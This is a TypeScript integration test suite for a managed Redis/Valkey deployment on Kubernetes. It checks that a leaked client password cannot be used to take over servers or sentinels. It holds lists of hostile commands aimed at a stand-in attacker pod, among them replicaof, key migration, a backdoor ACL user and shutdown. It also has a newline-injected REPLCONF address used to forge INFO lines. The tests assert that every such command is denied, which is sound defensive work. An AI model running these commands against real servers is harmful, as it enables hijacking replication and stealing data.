import { ChildProcess, spawn } from 'child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'fs';
import { tmpdir } from 'os';
import { join } from 'path';
import { ApiObject, Duration, JsonPatch } from 'cdk8s';
import { RedisCluster, RedisSentinel } from 'cdk8s-managed-redis';
import { Deployment } from 'cdk8s-plus-28';
import { askProgram } from './support/ask-program';
import { ClusterInstance } from './support/cluster-instance';
import { eventually, run } from './support/kubectl';
import { Namespace } from './support/namespace';
import { SMALL_ENTERPRISE, SMALL_PRO } from './support/plans';
import { cli, cliWorkload, reply } from './support/redis-cli';
import { SentinelInstance } from './support/sentinel-instance';
import { addProgram } from '../../examples/support/program';
import { snippetWith } from '../docs/pages';

/** The attacker has the clients' password, and a pod that may connect: `attached`, `accomplice`, `attached-cluster`. `trap` is his server. */
let namespace: Namespace;
let sentinel: SentinelInstance;
let cluster: ClusterInstance;
let trap: string;

const HELD: HeldConnection[] = [];

const synth = (passwordGrace?: Duration) => namespace.synth((chart) => {
  const redis = new RedisSentinel(chart, 'redis', { name: 'redis', plan: SMALL_PRO, passwordGrace });
  for (const name of ['attached', 'accomplice']) { cliWorkload(chart, name, redis); }
}, (chart) => {
  cliWorkload(chart, 'attached-cluster', new RedisCluster(chart, 'cluster', { name: 'cluster', plan: SMALL_ENTERPRISE, shards: 3, replicasPerShard: 1 }));
}, (chart) => {
  cliWorkload(chart, 'stranger');
  const deployment = new Deployment(chart, 'trap', { metadata: { name: 'trap' }, replicas: 1 });
  addProgram(deployment, join(__dirname, 'programs', 'trap.mjs'), { port: 3000 });
  const sysctls = [{ name: 'net.ipv4.ip_unprivileged_port_start', value: '0' }];
  ApiObject.of(deployment).addJsonPatch(JsonPatch.add('/spec/template/spec/securityContext/sysctls', sysctls));
});

beforeAll(async () => {
  namespace = await Namespace.create('leaked');
  sentinel = new SentinelInstance(namespace, 'redis');
  cluster = new ClusterInstance(namespace, 'cluster');
  await namespace.applyYaml(synth());
  await namespace.rolledOut('deployment/redis-proxy', 'deployment/attached', 'deployment/accomplice', 'deployment/attached-cluster', 'deployment/stranger', 'deployment/trap');
  await sentinel.untilStable();
  await cluster.untilStable();
  // They find the others by messages that each publishes every two seconds.
  await eventually('every sentinel knows all others', async () => (await sentinel.known()).every(({ replicas, sentinels }) => replicas === 2 && sentinels === 2));
  [trap] = await addresses('trap-');
});
afterAll(async () => {
  HELD.forEach((connection) => connection.close());
  await namespace?.delete();
});

/** The addresses of the pods whose names begin so. */
async function addresses(prefix: string): Promise<string[]> {
  const pods = await namespace.get('pods', '{range .items[*]}{.metadata.name} {.status.podIP}{"\\n"}{end}');
  return pods.trim().split('\n').map((line) => line.split(' ')).flatMap(([name, address]) => (name.startsWith(prefix) ? [address] : []));
}

/** What each command replies, by one connection of an attached workload. */
async function replies(workload: string, host: string, port: number, commands: readonly string[], login = ''): Promise<string[]> {
  const script = `export REDISCLI_AUTH="$REDIS_PASSWORD"; ${login} timeout 20 valkey-cli -h ${host} -p ${port} 2>&1`;
  return (await run('kubectl', ['--namespace', namespace.name, 'exec', '-i', `deploy/${workload}`, '--', 'sh', '-c', script], `${commands.join('\n')}\n`)).trim().split(/\n+/);
}

/** What the ports of the hosts reply to PING, all asked at once. */
function knock(pod: string, hosts: readonly string[], ports: readonly number[], login = ''): Promise<string> {
  const asks = hosts.flatMap((host) => ports.map((port) => `timeout 3 valkey-cli -h ${host} -p ${port} ${login} ping 2>&1 &`));
  return namespace.exec(pod, 'sh', '-c', `${asks.join(' ')} wait; true`);
}

const seen = () => askProgram<object[]>(namespace, 'trap', 'seen');

/** By the rights of the user, or for every user. */
const DENIED = /^(NOPERM|ERR DEBUG command not allowed)/;

describe('a leaked password of the clients', () => {
  /** Each would have the pods log in at the trap, follow it, or take another server for the primary. */
  const ofServers = () => [
    `publish __sentinel__:hello ${trap},26379,${'f'.repeat(40)},999,redis,${trap},6379,999`, `replconf ip-address ${trap}`, 'replconf listening-port 6379', `replicaof ${trap} 6379`,
    `config set replica-announce-ip ${trap}`, `config set cluster-announce-ip ${trap}`, 'config set requirepass x', 'config get masterauth', 'failover',
    `cluster meet ${trap} 6379`, 'cluster failover takeover', 'cluster reset hard', `migrate ${trap} 6379 key 0 1000`, 'acl setuser back on nopass ~* +@all',
    'client pause 10000 all', 'shutdown nosave', 'debug sleep 10',
  ];
  const ofSentinels = () => [
    `publish __sentinel__:hello ${trap},26379,${'f'.repeat(40)},999,redis,${trap},6379,999`, `sentinel monitor evil ${trap} 6379 1`, 'sentinel remove redis', 'sentinel failover redis',
    'sentinel set redis quorum 1', 'sentinel reset *', `sentinel config set announce-ip ${trap}`, 'sentinel config get *', 'shutdown nosave',
  ];

  test('becomes the primary of no server, and has no pod connect elsewhere, though the attacker may connect to all of them', async () => {
    const primary = await sentinel.currentPrimary();
    await reply(namespace, 'attached', 'set key value', 'OK');
    for (const [workload, members] of [['attached', await sentinel.members()], ['attached-cluster', await cluster.members()]] as const) {
      for (const member of members) {
        const [address] = await addresses(member);
        expect(await replies(workload, address, 6379, ofServers())).toEqual(ofServers().map(() => expect.stringMatching(DENIED)));
      }
    }
    for (const pod of await sentinel.sentinels()) {
      const [address] = await addresses(pod);
      expect(await replies('attached', address, 26379, ofSentinels(), 'unset REDISCLI_AUTH;')).toEqual(ofSentinels().map(() => expect.stringMatching(DENIED)));
    }

    await sentinel.untilStable();
    await cluster.untilStable();
    expect(await sentinel.currentPrimary()).toBe(primary);
    expect(await sentinel.known()).toEqual([1, 2, 3].map(() => ({ replicas: 2, sentinels: 2 })));
    await reply(namespace, 'attached', 'get key', 'value');
    expect(await seen()).toEqual([]);
  });

  test('admits no client that may not connect', async () => {
    const password = await namespace.secret('redis-connection', 'password');
    const hosts = ['redis', 'redis-ro', ...await addresses('redis-')];
    const login = `--user default --pass ${password} --no-auth-warning`;
    expect(await knock('deploy/attached', ['redis'], [6379], login)).toContain('PONG');
    expect(await knock('deploy/stranger', hosts, [6379, 6380, 26379], login)).not.toContain('PONG');
  });
});

test('what a replica announces as its address is believed by no proxy, though it stands in INFO as lines of its own', async () => {
  const primary = await sentinel.currentPrimary();
  const impostor = (await sentinel.members()).find((member) => member !== primary)!;
  const password = await namespace.secret('redis-internal', 'internal-password');
  // Sentinels take INFO apart at CR LF alone, and would believe these lines after a few seconds: server/forged-info.
  const announced = '6.6.6.6\\nrole:slave\\nmaster_host:6.6.6.6\\nmaster_link_status:up\\nmaster_repl_offset:999999999';
  const commands = [`AUTH internal ${password}`, 'REPLCONF listening-port 6379', `REPLCONF ip-address "${announced}"`, 'PSYNC ? -1'];
  const asks = commands.map((command) => `printf '%s\\r\\n' '${command}' >&3; read -r reply <&3`);
  const connection = `exec 3<>/dev/tcp/${primary}/6379; ${asks.join('; ')}; exec sleep 60`;
  const fake = spawn('kubectl', ['--namespace', namespace.name, 'exec', impostor, '--', 'bash', '-c', connection]);
  try {
    await eventually('INFO of the primary has the lines', async () => /^master_host:6\.6\.6\.6/m.test(await sentinel.server(primary, 'info', 'replication')));
    // The proxies ask ten times a second.
    for (let write = 0; write < 20; write += 1) {
      expect(await cli(namespace, 'attached', `set forged ${write}`)).toBe('OK');
      expect(await cli(namespace, 'attached', 'info replication', 'redis-ro')).toMatch(/^role:slave/m);
    }
    expect(await sentinel.primary()).toBe(primary);
  } finally {
    fake.kill();
    await namespace.exec(impostor, 'sh', '-c', 'for process in /proc/[0-9]*; do case $(tr "\\0" " " <"$process/cmdline") in "sleep 60 ") kill "${process#/proc/}" ;; esac; done; true');
  }
  await sentinel.untilStable();
  expect(await sentinel.currentPrimary()).toBe(primary);
});

test('no pod of an instance reaches an address outside it, not at the port of DNS either, and each resolves names', async () => {
  const ports = [53, 6379, 26379];
  expect((await knock('deploy/stranger', [trap], ports)).match(/OK/g)).toHaveLength(ports.length);
  expect(await seen()).toHaveLength(ports.length);

  await Promise.all([...await sentinel.members(), ...await sentinel.sentinels(), ...await cluster.members()].map(async (pod) => {
    expect(await knock(pod, [trap], ports)).not.toContain('OK');
    expect(await namespace.exec(pod, 'getent', 'hosts', `redis.${namespace.name}.svc.cluster.local`)).toMatch(/^[0-9a-f]/);
  }));
  expect(await seen()).toEqual([]);
});

/** Runs every command of the pages in the order in which the pages name them, for this instance. */
describe('the page "A password leaked"', () => {
  /** Of the user `internal`, asked by that user's own password in a pod. */
  const asInternal = (password: string) => namespace.exec('redis-0', 'sh', '-c', `REDISCLI_AUTH='${password}' timeout 5 valkey-cli --user internal ping 2>&1; true`);
  const folder = mkdtempSync(join(tmpdir(), 'redis-leaked-'));
  afterAll(() => rmSync(folder, { recursive: true }));

  /** A block of a page, with the names of this instance. */
  const block = (path: string, text: string): string => snippetWith(path, text)
    .replaceAll('shop-redis', 'redis').replaceAll('deployment/shop', 'deployment/attached').replaceAll('dist/shop.k8s.yaml', join(folder, 'shop.k8s.yaml'));
  const shell = (script: string): Promise<string> => run('bash', ['-c', `set -eu; kubectl() { command kubectl --namespace '${namespace.name}' "$@"; }; ${script}`]);

  test('closes the connections of the old password, refuses it, and finds no back door', async () => {
    const leaked = await namespace.secret('redis-connection', 'password');
    const held = [new HeldConnection('redis'), new HeldConnection('redis-0')];
    for (const connection of held) { await connection.reply('ping', /^PONG$/); }
    const uids = () => namespace.get('pods', '{.items[?(@.metadata.labels.app\\.kubernetes\\.io/component=="server")].metadata.uid}');
    const before = await uids();

    writeFileSync(join(folder, 'shop.k8s.yaml'), synth(Duration.seconds(0)));
    const [generate] = block('docs/operations.md', 'generates a new one').split('\n');
    const [runAgain, apply, seenByServer, restart] = block('docs/operations.md', 'the Job runs again and rewrites the Secret').split('\n');
    for (const step of [generate, runAgain, apply]) { await shell(step); }
    for (const member of await sentinel.members()) {
      await eventually(`${member} has the new password`, () => shell(seenByServer.replace('redis-0', member)).catch(() => undefined), 180);
    }
    expect((await shell(block('docs/security.md', 'client-of-'))).match(/^(attached|accomplice)-/gm)?.sort()).toEqual(['accomplice-', 'attached-']);
    await shell(restart);

    expect(await shell(block('docs/security.md', 'client kill user'))).toMatch(/^\d+\n\d+\n\d+\n$/);
    for (const connection of held) { await connection.reply('ping', /NOAUTH|WRONGPASS|closed/); }
    expect(await cli(namespace, 'accomplice', 'ping', `redis --user default --pass '${leaked}' --no-auth-warning`)).toMatch(/WRONGPASS/);
    await namespace.rolledOut('deployment/attached');
    await reply(namespace, 'attached', 'ping', 'PONG');
    expect(await uids()).toBe(before);

    const [users, clients, logs] = block('docs/security.md', 'acl list').split('\n');
    expect((await shell(users)).match(/^user \w+/gm)?.sort()).toEqual(['user default', 'user internal', 'user monitor', 'user pod']);
    expect(await shell(clients)).toMatch(/^id=\d+ .* age=\d+ .* user=internal/m);
    expect(await shell(logs)).toContain('password of the connection Secret changed');
    expect((await shell(block('docs/security.md', 'function list'))).trim()).toBe('');
  });

  test('changes the internal passwords, and keeps the data', async () => {
    await reply(namespace, 'attached', 'set kept value', 'OK');
    const leaked = await namespace.secret('redis-internal', 'internal-password');
    expect(await asInternal(leaked)).toContain('PONG');

    await shell(block('docs/operations.md', 'the Job makes new passwords'));
    await eventually('the pods have another password', async () => (await asInternal(leaked)).includes('WRONGPASS'));
    await sentinel.untilStable();
    expect(await asInternal(await namespace.secret('redis-internal', 'internal-password'))).toContain('PONG');
    await reply(namespace, 'attached', 'get kept', 'value');
  });
});

/** A connection of the pod `accomplice` to a host, logged in with the password that the pod started with, that stays open. */
class HeldConnection {
  private readonly client: ChildProcess;
  private received = '';

  public constructor(host: string) {
    const script = `export REDISCLI_AUTH="$REDIS_PASSWORD"; exec valkey-cli -h ${host}`;
    this.client = spawn('kubectl', ['--namespace', namespace.name, 'exec', '-i', 'deploy/accomplice', '--', 'sh', '-c', script], { stdio: ['pipe', 'pipe', 'pipe'] });
    for (const stream of [this.client.stdout!, this.client.stderr!]) { stream.on('data', (data: Buffer) => { this.received += data; }); }
    this.client.stdin!.on('error', () => undefined);
    HELD.push(this);
  }

  /** Repeats a command until its reply is this. */
  public async reply(command: string, expected: RegExp): Promise<void> {
    await eventually(`the reply to ${command} is ${expected}`, async () => {
      const start = this.received.length;
      this.client.stdin!.write(`${command}\n`);
      const answer = await eventually('an answer', async () => this.received.slice(start).trim() || undefined, 10);
      return expected.test(answer) || Promise.reject(new Error(answer));
    }, 180);
  }

  public close(): void {
    this.client.kill();
  }
}
